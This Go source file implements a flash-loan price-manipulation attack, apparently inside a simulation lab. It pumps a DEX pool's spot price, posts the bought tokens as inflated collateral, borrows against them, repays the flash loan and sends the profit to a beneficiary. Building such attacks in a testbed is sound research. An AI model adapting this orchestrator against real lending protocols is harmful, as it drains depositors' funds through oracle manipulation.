package manipulation

import (
	"math/big"
	"time"

	errorsmod "cosmossdk.io/errors"
	"github.com/ethereum/go-ethereum/common"
	"go.uber.org/zap"

	"github.com/michaelpento.lv/pricelab/chain"
	"github.com/michaelpento.lv/pricelab/dex"
	"github.com/michaelpento.lv/pricelab/flashloan"
	"github.com/michaelpento.lv/pricelab/ledger"
	"github.com/michaelpento.lv/pricelab/types"
	mathutil "github.com/michaelpento.lv/pricelab/utils/math"
	"github.com/michaelpento.lv/pricelab/utils/metrics"
)

// Params configures one orchestrator.
type Params struct {
	Name string
	// Beneficiary receives the proceeds. Zero means the caller.
	Beneficiary common.Address
	// CollateralBps is the share of bought B deposited as collateral. The
	// rest stays available to the secondary unwind. Zero means all of it.
	CollateralBps uint64
	// UnwindOnSecondary sells residual B on the secondary pool when the
	// borrow alone cannot cover the repayment.
	UnwindOnSecondary bool
}

// Keepers are the components one attack composes.
type Keepers struct {
	Ledger    Ledger
	Lender    flashloan.Provider
	Primary   dex.Pool
	Secondary dex.Pool
	Market    Market
}

// Orchestrator runs the flash-loan price manipulation against one lending
// market as a single atomic sequence: borrow A, pump the primary pool,
// post the bought B as collateral at the inflated price, borrow against it,
// repay the flash loan and keep the difference.
type Orchestrator struct {
	key     chain.StoreKey
	params  Params
	addr    common.Address
	k       Keepers
	metrics *metrics.AttackMetrics
}

func NewOrchestrator(key chain.StoreKey, params Params, k Keepers, m *metrics.AttackMetrics) *Orchestrator {
	if params.Name == "" {
		params.Name = "attacker/" + k.Market.Market()
	}
	if params.CollateralBps == 0 || params.CollateralBps > types.BpsDenominator {
		params.CollateralBps = types.BpsDenominator
	}
	return &Orchestrator{
		key:     key,
		params:  params,
		addr:    types.ModuleAddress(params.Name),
		k:       k,
		metrics: m,
	}
}

func (o *Orchestrator) Address() common.Address { return o.addr }
func (o *Orchestrator) Params() Params          { return o.params }
func (o *Orchestrator) Target() string          { return o.k.Market.Market() }

func (o *Orchestrator) store(ctx chain.Context) *store {
	return ctx.Store(o.key).(*store)
}

// ExecuteAttack runs one attack funded by a flash loan of flashAmount A.
// The returned trace is filled as far as the run got, also on failure; a
// failed run leaves no state behind once the enclosing unit is discarded.
func (o *Orchestrator) ExecuteAttack(ctx chain.Context, caller common.Address, flashAmount *big.Int) (*Trace, error) {
	start := time.Now()
	target := o.Target()
	if !mathutil.IsPositive(flashAmount) {
		return nil, errorsmod.Wrap(types.ErrInvalidAmount, "flash amount must be positive")
	}

	beneficiary := o.params.Beneficiary
	if beneficiary == (common.Address{}) {
		beneficiary = caller
	}

	r := &run{o: o, trace: newTrace(flashAmount)}
	r.trace.Target = target
	r.trace.Beneficiary = beneficiary
	r.trace.Height = ctx.BlockHeight()
	r.trace.Timestamp = ctx.BlockTime()

	err := o.execute(ctx, r, beneficiary)
	r.trace.derive()
	if err != nil {
		r.trace.Failure = err.Error()
		// dry runs never reach the counters, failed or not
		if o.metrics != nil && !ctx.Simulated() {
			o.metrics.Attempts.WithLabelValues(target).Inc()
			o.metrics.Failures.WithLabelValues(target, types.Kind(err)).Inc()
		}
		ctx.Logger().Warn("Attack failed",
			zap.String("target", target),
			zap.String("flashAmount", flashAmount.String()),
			zap.String("reason", types.Kind(err)),
			zap.Error(err))
		return r.trace, err
	}

	r.trace.Succeeded = true
	s := o.store(ctx)
	s.runs++
	s.succeeded = true
	s.lastProfit = new(big.Int).Set(r.trace.Leftover)
	s.beneficiary = beneficiary
	s.last = r.trace.Clone()

	trace := r.trace
	ctx.OnCommit(func() {
		if o.metrics != nil {
			o.metrics.Attempts.WithLabelValues(target).Inc()
			o.metrics.Successes.WithLabelValues(target).Inc()
			o.metrics.LastProfit.Set(metrics.Units(trace.Leftover))
			o.metrics.ExecutionTime.Observe(time.Since(start).Seconds())
		}
		ctx.Logger().Info("Attack succeeded",
			zap.String("target", target),
			zap.String("flashAmount", trace.FlashAmount.String()),
			zap.String("inflatedPrice", trace.InflatedPrice.String()),
			zap.String("borrowed", trace.Borrowed.String()),
			zap.String("leftover", trace.Leftover.String()),
			zap.String("roi", types.FormatBps(trace.ROI)))
	})
	return r.trace, nil
}

func (o *Orchestrator) execute(ctx chain.Context, r *run, beneficiary common.Address) error {
	initial, err := o.k.Primary.GetSpotPrice(ctx)
	if err != nil {
		return err
	}
	r.trace.InitialPrice = initial

	data, err := EncodePayload(Payload{
		FlashAmount:   r.trace.FlashAmount,
		Beneficiary:   beneficiary,
		CollateralBps: uint16(o.params.CollateralBps),
	})
	if err != nil {
		return err
	}
	return o.k.Lender.ExecuteFlashLoan(ctx, flashloan.FlashLoanParams{
		Borrower: r,
		Amount:   r.trace.FlashAmount,
		Data:     data,
	})
}

// GetState reports holdings of the orchestrator and of the last beneficiary.
func (o *Orchestrator) GetState(ctx chain.Context) State {
	s := o.store(ctx)
	lk := o.k.Ledger
	st := State{
		Address:      o.addr,
		Beneficiary:  s.beneficiary,
		BeneficiaryA: new(big.Int),
		BeneficiaryB: new(big.Int),
		ContractA:    lk.BalanceOf(ctx, o.addr, types.AssetA),
		ContractB:    lk.BalanceOf(ctx, o.addr, types.AssetB),
		Collateral:   o.k.Market.CollateralOf(ctx, o.addr),
		Debt:         o.k.Market.DebtOf(ctx, o.addr),
		LastProfit:   types.Clone(s.lastProfit),
		Succeeded:    s.succeeded,
		Runs:         s.runs,
	}
	if s.beneficiary != (common.Address{}) {
		st.BeneficiaryA = lk.BalanceOf(ctx, s.beneficiary, types.AssetA)
		st.BeneficiaryB = lk.BalanceOf(ctx, s.beneficiary, types.AssetB)
	}
	return st
}

// GetDebugState returns the trace of the last committed run, or nil.
func (o *Orchestrator) GetDebugState(ctx chain.Context) *Trace {
	return o.store(ctx).last.Clone()
}

// run is the flash loan borrower for one attack.
type run struct {
	o     *Orchestrator
	trace *Trace
}

var _ flashloan.Borrower = (*run)(nil)

func (r *run) Address() common.Address { return r.o.addr }

func (r *run) OnFlashLoan(ctx chain.Context, lender common.Address, amount, fee *big.Int, data []byte) error {
	o, t := r.o, r.trace
	self := o.addr

	p, err := DecodePayload(data)
	if err != nil {
		return err
	}
	if p.FlashAmount.Cmp(amount) != 0 {
		return errorsmod.Wrapf(types.ErrInvalidAmount, "loaned %s, payload expects %s", amount, p.FlashAmount)
	}
	for _, a := range []struct {
		spender common.Address
		asset   types.Asset
	}{
		{o.k.Primary.Address(), types.AssetA},
		{o.k.Secondary.Address(), types.AssetB},
		{o.k.Market.Address(), types.AssetB},
	} {
		if err := o.k.Ledger.Approve(ctx, self, a.spender, a.asset, ledger.MaxAllowance); err != nil {
			return err
		}
	}

	// pump
	bought, err := o.k.Primary.SwapAForB(ctx, self, amount)
	if err != nil {
		return err
	}
	t.BoughtB = bought
	if t.InflatedPrice, err = o.k.Primary.GetSpotPrice(ctx); err != nil {
		return err
	}

	// collateralize at the inflated price
	deposit := mathutil.ApplyBps(bought, uint64(p.CollateralBps))
	if deposit.Sign() > 0 {
		if err := o.k.Market.DepositCollateral(ctx, self, deposit); err != nil {
			return err
		}
	}
	t.CollateralDeposited = deposit
	t.CollateralValue = mathutil.MulScale(deposit, t.InflatedPrice)
	t.MaxBorrow = mathutil.ApplyBps(t.CollateralValue, o.k.Market.LTVBps())

	borrow := mathutil.Min(t.MaxBorrow, o.k.Market.PoolBalance(ctx))
	if borrow.Sign() > 0 {
		if err := o.k.Market.Borrow(ctx, self, borrow); err != nil {
			return err
		}
	}
	t.Borrowed = borrow

	t.Fee = new(big.Int).Set(fee)
	t.Repayment = new(big.Int).Add(amount, fee)
	balanceA := o.k.Ledger.BalanceOf(ctx, self, types.AssetA)

	if balanceA.Cmp(t.Repayment) < 0 && o.params.UnwindOnSecondary {
		if err := r.unwind(ctx, new(big.Int).Sub(t.Repayment, balanceA)); err != nil {
			return err
		}
		balanceA = o.k.Ledger.BalanceOf(ctx, self, types.AssetA)
	}

	if balanceA.Cmp(t.Repayment) < 0 {
		return errorsmod.Wrapf(types.ErrUnprofitableAttack,
			"%s market: holding %s A after borrowing %s, repayment is %s",
			t.Target, balanceA, t.Borrowed, t.Repayment)
	}

	if err := o.k.Ledger.Transfer(ctx, self, lender, types.AssetA, t.Repayment); err != nil {
		return err
	}
	t.BalanceAfterRepayment = new(big.Int).Sub(balanceA, t.Repayment)
	t.Leftover = new(big.Int).Set(t.BalanceAfterRepayment)
	t.ResidualB = o.k.Ledger.BalanceOf(ctx, self, types.AssetB)

	if t.Leftover.Sign() > 0 {
		if err := o.k.Ledger.Transfer(ctx, self, p.Beneficiary, types.AssetA, t.Leftover); err != nil {
			return err
		}
	}
	if t.ResidualB.Sign() > 0 {
		if err := o.k.Ledger.Transfer(ctx, self, p.Beneficiary, types.AssetB, t.ResidualB); err != nil {
			return err
		}
	}
	return nil
}

// unwind sells just enough residual B on the secondary pool to receive
// shortfall A, or all of it when that is not enough.
func (r *run) unwind(ctx chain.Context, shortfall *big.Int) error {
	o, t := r.o, r.trace
	residual := o.k.Ledger.BalanceOf(ctx, o.addr, types.AssetB)
	if residual.Sign() == 0 {
		return nil
	}
	sell := residual
	if in, err := o.k.Secondary.GetAmountIn(ctx, types.AssetA, shortfall); err == nil && in.Cmp(residual) < 0 {
		sell = in
	}
	got, err := o.k.Secondary.SwapBForA(ctx, o.addr, sell)
	if err != nil {
		return err
	}
	t.UnwoundB = sell
	t.UnwoundA = got
	ctx.Logger().Debug("Unwound residual collateral",
		zap.String("secondary", o.k.Secondary.Name()),
		zap.String("soldB", sell.String()),
		zap.String("boughtA", got.String()))
	return nil
}
